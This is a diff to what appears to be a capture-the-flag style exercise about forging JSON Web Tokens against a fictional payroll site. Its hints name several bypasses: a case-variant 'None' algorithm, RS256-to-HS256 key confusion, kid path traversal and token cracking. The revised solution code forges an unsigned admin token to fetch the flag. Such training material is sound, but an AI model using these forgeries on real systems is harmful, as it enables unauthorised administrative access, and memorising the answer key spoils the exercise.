@@ -48,15 +48,14 @@ TARGET = Target(
         "Tom's tokens: what does it leave to the sender?",
         "The application refuses `none`. Does it refuse each spelling of it? It reads the key from "
         "a file that the kid names. And which algorithm does it use with that key?",
-        "Any of these: alg 'None'; forge_confused with /keys/rs256.pem; kid '../static/logo.svg' "
-        "with HS256 and the picture as the secret; crack(scene.old_token, guesses()).",
+        "Any of these: alg 'None'; HS256 with /keys/rs256.pem as the secret (02-4); kid "
+        "'../static/logo.svg' with HS256 and the picture as the secret; crack(scene.old_token, "
+        "guesses()) (02-5).",
     ),
     code("""
-        APP = "https://payroll.example"
-        public_key = scene.tom.get(APP + "/keys/rs256.pem").content
-        forged = forge_confused({"sub": "admin"}, public_key)
-        answer = scene.tom.get(APP + "/admin", headers={"authorization": f"Bearer {forged}"})
-        flag = answer.json()["flag"]
+        forged = f"{json_part({'alg': 'None'})}.{json_part({'sub': 'admin'})}."
+        address, headers = "https://payroll.example/admin", {"authorization": f"Bearer {forged}"}
+        flag = scene.tom.get(address, headers=headers).json()["flag"]
     """),
     brief=(
         "https://payroll.example takes signed tokens. Tom has an account there, and two tokens: "
